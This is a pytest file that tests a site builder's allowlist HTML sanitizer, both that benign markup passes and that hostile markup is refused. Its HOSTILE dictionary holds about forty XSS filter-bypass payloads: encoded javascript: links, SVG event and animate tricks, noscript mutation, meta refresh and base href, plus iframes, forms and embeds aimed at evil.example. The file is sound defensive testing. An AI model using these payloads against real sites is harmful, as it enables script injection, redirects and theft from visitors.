"""Hostile page text against the allowlist sanitizer: every form that could run script, fetch from
elsewhere or send a reader away is refused at its line with a fix, and what the site writes itself passes
unchanged. Each case ran script in Chromium when the filter was a list of patterns to refuse."""

from __future__ import annotations

import datetime
from pathlib import Path

import pytest
from markupsafe import Markup

from site_builder.engine.base.errors import SiteError
from site_builder.engine.base.sanitize import clean, removed
from site_builder.engine.model.model import Page
from site_builder.engine.render.markup import BodyRenderer

DAY = datetime.date(2026, 1, 1)
FIRST = 10  # the body's first line in its file
LEAD = "Some words first.\n\n"  # the case itself sits on line FIRST + 2


def render(body: str, macros: dict[str, object] | None = None) -> str:
    page = Page(Path("p.md"), "en", "p", "p", "T", "D", "page", DAY, DAY, body, FIRST)
    return BodyRenderer().render(page, macros or {}).html


# name -> (the case, on its own line; words the message must hold)
HOSTILE = {
    "script": ("<script>alert(1)</script>", "script"),
    "script, upper case": ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "script"),
    "entity-encoded javascript: (&#106;)": ('<a href="&#106;avascript:alert(1)">x</a>', "javascript:"),
    "entity-encoded colon (&colon;)": ('<a href="javascript&colon;alert(1)">x</a>', "javascript:"),
    "a tab entity inside the scheme (&#x09;)": ('<a href="jav&#x09;ascript:alert(1)">x</a>', "javascript:"),
    "a newline inside the scheme": ('<a href="java\nscript:alert(1)">x</a>', "javascript:"),
    "leading spaces and control characters": ('<a href="  &#1;javascript:alert(1)">x</a>', "javascript:"),
    "Markdown link to javascript:": ("[x](javascript:alert(1))", "javascript:"),
    "Markdown link to vbscript:": ("[x](vbscript:msgbox(1))", "vbscript:"),
    "a data: address": ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data:"),
    "an event attribute after a slash (<svg/onload>)": ("<svg/onload=alert(1)>", "event attribute"),
    "> inside a quoted attribute before onclick": ('<p title="a>b" onclick="alert(1)">x</p>', "event attribute"),
    "an event attribute in odd case": ('<b OnMouseOver="alert(1)">x</b>', "event attribute"),
    "an event attribute through attr_list": ('## A heading {: onclick="alert(1)" }', "event attribute"),
    "xlink:href": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">x</text></a></svg>',
        "xlink:href",
    ),
    "SVG animate values": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
        "animation",
    ),
    "SVG set": ('<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', "animation"),
    "SVG use of another file": ('<svg><use href="https://evil.example/i.svg#x"/></svg>', "<use>"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "iframe"),
    "iframe srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "iframe"),
    "base href": ('<base href="https://evil.example/">', "<base>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta>"),
    "meta CSP overriding": ('<meta http-equiv="Content-Security-Policy" content="script-src *">', "<meta>"),
    "form to another site": ('<form action="https://evil.example/"><input name="q"></form>', "form"),
    "button with formaction": ('<button formaction="javascript:alert(1)">x</button>', "form control"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "object"),
    "embed": ('<embed src="https://evil.example/x.swf">', "embed"),
    "style element": ("<style>body{background:url(https://evil.example/)}</style>", "<style>"),
    "external stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
    "style attribute": ('<span style="color:red">x</span>', "style attribute"),
    "picture from another site": ('<span><img src="https://evil.example/t.png" alt="x"></span>', "another site"),
    "math with a link": ('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', "<math>"),
    "noscript mutation": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "noscript"),
    "template": ("<template><script>alert(1)</script></template>", "template"),
    "target on a link": ('<a href="https://example.org/" target="_blank">x</a>', "target="),
    "mixed-case scheme": ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript:"),
    "numeric entity for the colon": ('<a href="javascript&#58;alert(1)">x</a>', "javascript:"),
    "script inside SVG": ("<svg><script>alert(1)</script></svg>", "script"),
    "a data: picture through a link": ('<a href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">x</a>', "data:"),
    "formaction on an input": ('<input type="image" src="x.png" formaction="javascript:alert(1)">', "form control"),
    "srcset from elsewhere": ('<picture><source srcset="https://evil.example/a.webp"></picture>', "another site"),
}


@pytest.mark.parametrize("case", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markup_is_refused_at_its_line_with_a_fix(case: tuple[str, str]) -> None:
    text, words = case
    with pytest.raises(SiteError) as caught:
        render(LEAD + text + "\n\nMore words.\n")
    problems = caught.value.problems
    assert problems, "refused without saying why"
    assert any(words in p.message for p in problems), problems
    assert all(p.path == Path("p.md") and p.line == FIRST + 2 for p in problems), problems
    assert all(":" in p.message for p in problems)  # what it is, then what to do


def test_every_refused_form_is_one_the_sanitizer_would_remove() -> None:
    """The report and the sanitizer agree: nothing refused is kept, nothing removed goes unreported."""
    for text, _words in HOSTILE.values():
        if not text.startswith("<"):
            continue  # Markdown: the cases above render it
        html = text.replace("\n", "")
        assert list(removed(html)), text
        assert clean(html) != html


@pytest.mark.parametrize(
    "text",
    [
        "javascript: a word in text, not a link",
        '<a href="https://example.org/a?b=1&amp;c=2">a link</a>',
        "[mail](mailto:clinic@example.org) and [phone](tel:+62211234)",
        '<span lang="id">kulit kendur</span> in a sentence, <abbr title="Superficial">SMAS</abbr>',
        '<div class="note" id="n1" data-role="x" aria-label="A note">\n\nText\n\n</div>',
        "Term\n: Meaning",
        "| a | b |\n|:--|--:|\n| 1 | 2 |",
        "Text[^1].\n\n[^1]: A footnote.",
        "!!! note\n    Inside the box.",
        '<details><summary>More</summary><p lang="en">Hidden text</p></details>',
        "<kbd>Ctrl</kbd> <sub>2</sub> <sup>3</sup> <del>old</del> <ins>new</ins>",
        "A sum where a < b and c > d, in plain words.",
        "Code shows markup as text: `<script>alert(1)</script>` and `<a href=\"javascript:x\">`.",
        "    <iframe src=\"https://evil.example/\"></iframe>\n",
    ],
)
def test_what_the_site_writes_passes_unchanged(text: str) -> None:
    html = render(text + "\n")
    assert not list(removed(html))
    assert clean(html) == html or "<br" in html


def test_a_chart_drawn_by_the_guide_keeps_its_drawing() -> None:
    chart = Markup(
        '<figure class="chart"><svg class="chart-svg" viewBox="0 0 10 10" role="img" aria-labelledby="t" '
        'xmlns="http://www.w3.org/2000/svg"><title id="t">A chart</title><g class="series"><rect class="bar" '
        'x="1" y="2" width="3" height="4"></rect><line class="grid" x1="0" x2="1" y1="0" y2="1"></line>'
        '<text class="tick" x="1" y="2" text-anchor="end">10</text></g></svg><figcaption>Cost</figcaption></figure>'
    )
    html = render("Intro\n\n{{ chart }}\n", {"chart": chart})
    assert str(chart) in html


def test_a_macro_that_makes_unsafe_markup_is_refused_at_the_bodys_first_line() -> None:
    with pytest.raises(SiteError) as caught:
        render("Intro\n\n{{ bad }}\n", {"bad": Markup('<iframe src="https://x.example/"></iframe>')})
    [problem] = caught.value.problems
    assert problem.line == FIRST and "iframe" in problem.message


def test_several_problems_are_reported_together_each_at_its_line() -> None:
    with pytest.raises(SiteError) as caught:
        render('<base href="https://evil.example/">\n\nFine.\n\n<span onclick="x()">a</span>\n')
    lines = sorted(p.line for p in caught.value.problems)
    assert lines == [FIRST, FIRST + 4], caught.value.problems
